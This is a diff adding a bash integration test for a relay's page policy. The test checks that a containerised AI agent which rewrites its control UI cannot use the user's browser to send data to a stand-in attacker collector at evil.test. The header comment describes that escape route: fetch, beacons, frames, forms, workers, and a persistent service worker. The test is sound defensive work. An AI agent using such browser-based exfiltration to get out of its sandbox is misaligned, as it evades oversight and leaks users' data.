@@ -1,0 +1,92 @@
+#!/usr/bin/env bash
+# Escape class: the container's UI page carries what the agent read out through the user's
+# browser. launch relays the OpenClaw control UI (the container's gateway, behind ui.sock) to
+# 127.0.0.1:<port>; an agent that rewrote the UI serves a page whose script runs in the user's
+# browser, which has the network the container lacks: fetch, beacons, images, scripts, frames,
+# forms, WebSockets, workers and a service worker (which would outlive the launch and answer for
+# the origin with headers of its choosing) all reach any site, no click needed.
+# Before: the relay passed the container's answers as sent. Expected now (tokfence-relay
+# --page-policy, which launch passes): every answer carries tokfence's Content-Security-Policy
+# (core/page_origin.hpp relayed_page_policy: loads and connections only to the listener's own
+# origin), X-DNS-Prefetch-Control: off and Connection: close, and the service worker script is
+# refused, so the collector on another site hears nothing. Unprotected set-up first: the same
+# page behind a relay without --page-policy does reach the collector in the same browser.
+# (Not covered by a policy, named in docs/THREAT-MODEL.md: top-level navigation and WebRTC.)
+source "$(dirname "$0")/../integration/lib.sh"
+need_browser
+
+# The attacker's collector: another site (evil.test, mapped to 127.0.0.1 in the browser only).
+mkdir -p "$WORK/collector"
+python3 -u -m http.server 0 --bind 127.0.0.1 --directory "$WORK/collector" >"$WORK/collector.log" 2>&1 &
+_pids_to_kill+=($!)
+wait_until "grep -q 'port [0-9]' '$WORK/collector.log'"
+collector_port=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$WORK/collector.log" | head -1)
+
+# start_ui NAME [RELAY FLAGS...]: the hostile UI on $WORK/NAME/ui.sock behind a relay started as
+# launch starts it (unixat: with the socket owner's uid, --own-uid-only --check-host); sets ui_port.
+start_ui() {
+  local name=$1 fd
+  shift
+  mkdir -p "$WORK/$name"
+  python3 "$SOURCE_DIR/tests/attacks/launch_ui_exfil_stub.py" "$WORK/$name/ui.sock" \
+    "http://evil.test:$collector_port" >"$WORK/$name/ui.log" 2>&1 &
+  _pids_to_kill+=($!)
+  wait_until "test -S '$WORK/$name/ui.sock'"
+  exec {fd}<"$WORK/$name"
+  "$TOKFENCE_RELAY_BIN" --forward "tcp:127.0.0.1:0=unixat:$fd/ui.sock@$(id -u)" --own-uid-only --check-host "$@" \
+    --ready-file "$WORK/$name/relay.ready" >"$WORK/$name/relay.log" 2>&1 &
+  _pids_to_kill+=($!)
+  exec {fd}<&-
+  wait_until "test -s '$WORK/$name/relay.ready'"
+  ui_port=$(sed -n 's/^tcp:127.0.0.1:\([0-9]*\)=.*/\1/p' "$WORK/$name/relay.ready")
+}
+start_ui open
+open_port=$ui_port
+start_ui gated --page-policy
+port=$ui_port
+
+# The answers as a client sees them.
+head=$(curl -sS -m 8 -D - -o /dev/null "http://127.0.0.1:$port/")
+expect_contains "$head" "Content-Security-Policy: default-src 'self' data: blob:" "the page policy on the answer"
+expect_contains "$head" "connect-src 'self' data: blob: ws://127.0.0.1:$port ws://localhost:$port;" "connect-src"
+expect_contains "$head" "X-DNS-Prefetch-Control: off"
+expect_contains "$head" "Connection: close" "the server's keep-alive replaced"
+expect_not_contains "$head" "keep-alive"
+expect_contains "$(curl -sS -m 8 -w ' status=%{http_code}' -H 'Service-Worker: script' "http://127.0.0.1:$port/sw.js")" \
+  "status=403" "a service worker script"
+wait_until "grep -q 'refused: dashboard request: a service worker script' '$WORK/gated/relay.log'"
+expect_not_contains "$(curl -sS -m 8 -D - -o /dev/null "http://127.0.0.1:$open_port/")" "Content-Security-Policy" \
+  "the unprotected relay adds no policy (the set-up the browser part compares with)"
+
+out=$(CHROMIUM=$CHROMIUM PUPPETEER=$PUPPETEER PROFILE="$WORK/profile" PORTS="$open_port" \
+  timeout 120 node "$SOURCE_DIR/tests/attacks/launch_ui_page_exfil.mjs" 2>"$WORK/node.err") ||
+  { cat "$WORK/node.err" >&2; die "the browser run failed"; }
+log "browser: $out"
+collected() { grep -o '"[A-Z]* /[a-z]*?d=stolen' "$WORK/collector.log" | sed 's/.* \/\([a-z]*\)?.*/\1/' | sort -u | tr '\n' ' '; }
+
+# Unprotected: the page's loads reach the collector (so the browser part works).
+sleep 1
+before=$(collected)
+log "collector, unprotected relay: $before"
+for way in fetch beacon img script style frame form worker sw; do
+  expect_contains " $before" " $way " "unprotected set-up: the page's $way reached the collector"
+done
+expect_eq "$(jq -r --arg p "$open_port" '.[$p].r.sw' <<<"$out")" registered "unprotected set-up: the service worker"
+
+# Gated: nothing more reaches the collector; the browser reports the policy's refusals.
+: >"$WORK/collector.log.mark"
+lines_before=$(wc -l <"$WORK/collector.log")
+out2=$(CHROMIUM=$CHROMIUM PUPPETEER=$PUPPETEER PROFILE="$WORK/profile2" PORTS="$port" \
+  timeout 120 node "$SOURCE_DIR/tests/attacks/launch_ui_page_exfil.mjs" 2>"$WORK/node2.err") ||
+  { cat "$WORK/node2.err" >&2; die "the browser run failed"; }
+log "browser, gated: $out2"
+sleep 1
+after=$(tail -n +"$((lines_before + 1))" "$WORK/collector.log")
+expect_not_contains "$after" "stolen" "a request of the page behind --page-policy at the collector"
+expect_eq "$(jq -r --arg p "$port" '.[$p].r != null' <<<"$out2")" true "the gated page ran its script"
+expect_not_contains "$(jq -r --arg p "$port" '.[$p].r.sw' <<<"$out2")" registered "the service worker behind --page-policy"
+violations=$(jq -r --arg p "$port" '.[$p].violations | join(" ")' <<<"$out2")
+for directive in connect-src img-src script-src-elem frame-src form-action; do
+  expect_contains "$violations" "$directive" "the browser reported the policy's refusal ($directive)"
+done
+log "held: behind --page-policy the page reached no other site (violations: $violations)"
